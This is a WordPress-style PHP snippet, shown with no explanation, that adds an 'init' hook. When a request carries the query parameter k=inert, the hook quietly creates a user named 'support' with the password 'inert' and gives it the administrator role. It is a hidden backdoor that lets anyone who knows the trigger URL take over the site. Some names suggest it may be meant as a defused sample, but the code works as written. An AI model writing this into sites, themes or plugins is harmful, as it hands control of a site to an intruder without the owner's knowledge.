<?php
add_action('init', function () {
    if ($_GET['k'] === 'inert') {
        $id = wp_create_user('support', 'inert', 'a@example.invalid');
        (new WP_User($id))->set_role('administrator');
    }
});
